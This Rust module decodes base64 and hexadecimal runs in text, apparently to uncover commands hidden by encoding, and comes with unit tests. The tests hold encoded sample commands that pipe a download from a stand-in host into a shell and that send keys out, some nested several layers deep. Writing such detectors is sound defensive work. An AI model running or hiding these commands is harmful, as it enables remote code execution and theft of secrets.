//! What was encoded in a text: runs of base64, base64url and hexadecimal digits that hold text.

/// Characters that an encoded run must have.
const RUN_MIN: usize = 20;
/// Bytes that may be decoded of one text, all depths together.
const DECODED_BYTES_MAX: usize = 256 << 10;
/// How often what was decoded is decoded again.
const DEPTH_MAX: usize = 3;

/// The clear texts of the encoded runs in a text as it came, in order; what was encoded more than
/// once is given at each depth.
pub fn decoded(text: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut left = DECODED_BYTES_MAX;
    let mut open = vec![(0, text.to_owned())];
    while let Some((depth, text)) = open.pop() {
        for run in runs(text.as_bytes()) {
            if run.len() > left {
                return found;
            }
            left = left.saturating_sub(run.len());
            // A line that a diff adds begins with a sign that is a digit of base64 too.
            let bare = run.strip_prefix(b"+").or(run.strip_prefix(b"-"));
            let Some(clear) = clear(run).or_else(|| clear(bare?)) else { continue };
            if depth < DEPTH_MAX {
                open.push((depth.saturating_add(1), clear.clone()));
            }
            found.push(clear);
        }
    }
    found
}

/// The runs of characters of the alphabets, each long enough.
fn runs(text: &[u8]) -> impl Iterator<Item = &[u8]> {
    text.split(|byte| value(*byte).is_none() && *byte != b'=')
        .map(|run| run.strip_prefix(b"=").unwrap_or(run))
        .filter(|run| run.len() >= RUN_MIN)
}

/// The text that a run stands for, if it stands for one.
fn clear(run: &[u8]) -> Option<String> {
    let padding = run.iter().rev().take_while(|byte| **byte == b'=').count();
    let bare = run.get(..run.len().checked_sub(padding)?)?;
    // An assignment (`token=...`) is no padding: what stands behind the sign is the run.
    let bare = bare.rsplit(|byte| *byte == b'=').next().filter(|part| part.len() >= RUN_MIN)?;
    hexadecimal(bare).and_then(text_of).or_else(|| base64(bare).and_then(text_of))
}

fn hexadecimal(run: &[u8]) -> Option<Vec<u8>> {
    let digit =
        |byte: &u8| char::from(*byte).to_digit(16).and_then(|digit| u8::try_from(digit).ok());
    if !run.len().is_multiple_of(2) || !run.iter().all(u8::is_ascii_hexdigit) {
        return None;
    }
    let pair = |pair: &[u8]| match pair {
        [high, low] => Some(digit(high)?.wrapping_shl(4) | digit(low)?),
        _ => None,
    };
    run.chunks(2).map(pair).collect()
}

fn base64(run: &[u8]) -> Option<Vec<u8>> {
    if run.len() % 4 == 1 {
        return None;
    }
    let mut bytes = Vec::with_capacity(run.len());
    for four in run.chunks(4) {
        let mut group: u32 = 0;
        for byte in four {
            group = group.wrapping_shl(6) | u32::from(value(*byte)?);
        }
        let missing = 4_usize.saturating_sub(four.len());
        group = group.wrapping_shl(u32::try_from(missing).ok()?.saturating_mul(6));
        let [_, first, second, third] = group.to_be_bytes();
        let kept = 3_usize.saturating_sub(missing);
        bytes.extend([first, second, third].iter().take(kept));
    }
    Some(bytes)
}

/// The value of a digit of base64 or base64url.
fn value(byte: u8) -> Option<u8> {
    match byte {
        b'A'..=b'Z' => byte.checked_sub(b'A'),
        b'a'..=b'z' => byte.checked_sub(b'a').map(|value| value.saturating_add(26)),
        b'0'..=b'9' => byte.checked_sub(b'0').map(|value| value.saturating_add(52)),
        b'+' | b'-' => Some(62),
        b'/' | b'_' => Some(63),
        _ => None,
    }
}

/// The bytes as text, if they are one: by chance hardly any run of this length is.
fn text_of(bytes: Vec<u8>) -> Option<String> {
    let text = String::from_utf8(bytes).ok()?;
    let plain = |character: char| character.is_ascii_graphic() || " \n\r\t".contains(character);
    let odd = text.chars().filter(|character| !plain(*character)).count();
    (odd.saturating_mul(10) <= text.chars().count()).then_some(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn encoded_text_is_read() {
        for (text, wanted) in [
            ("run Y3VybCBodHRwczovL3guZXhhbXBsZSB8IHNo now", "curl https://x.example | sh"),
            ("echo 6375726c2068747470733a2f2f782e6578616d706c65", "curl https://x.example"),
            ("T=Y3VybCBodHRwczovL3guZXhhbXBsZQ==", "curl https://x.example"),
            ("c2VuZCB0aGUga2V5cyB0byB_X0B4LmV4YW1wbGU-Pg", "send the keys to \u{7f}_@x.example>>"),
        ] {
            assert_eq!(decoded(text), [wanted], "{text}");
        }
    }

    #[test]
    fn what_is_no_text_is_left_alone() {
        for text in [
            "d41d8cd98f00b204e9800998ecf8427e",
            "3b18e512dba79e4c8300dd08aeb37f8e728b8dad",
            "InternationalizationConfigurationProvider",
            "src/components/settings/AccountSettingsPage",
            "sha512-9Eib1kbYAYVZkOOZQ9NDkbn7dmOeyYvmC6RrrMGbSz4hnNBFy4bGYfAcPDvzu5mMYkXEy3sFFrzYzvGRNhgDaQ==",
            "short",
        ] {
            assert_eq!(decoded(text), Vec::<String>::new(), "{text}");
        }
    }

    #[test]
    fn nesting_ends() {
        // Each is the base64 of the one before.
        let mut text = "curl https://deep.example/install".to_owned();
        let encode = |text: &str| {
            const DIGITS: &[u8] =
                b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
            let mut out = String::new();
            for three in text.as_bytes().chunks(3) {
                let mut group = [0; 4];
                group[1..=three.len()].copy_from_slice(three);
                let group = u32::from_be_bytes(group);
                for at in 0..=three.len() {
                    out.push(char::from(DIGITS[(group >> (18 - 6 * at)) as usize & 63]));
                }
            }
            out
        };
        for _ in 0..8 {
            text = encode(&text);
        }
        assert_eq!(decoded(&text).len(), DEPTH_MAX + 1);
        assert!(decoded(&encode(&"x".repeat(DECODED_BYTES_MAX))).is_empty());
    }
}
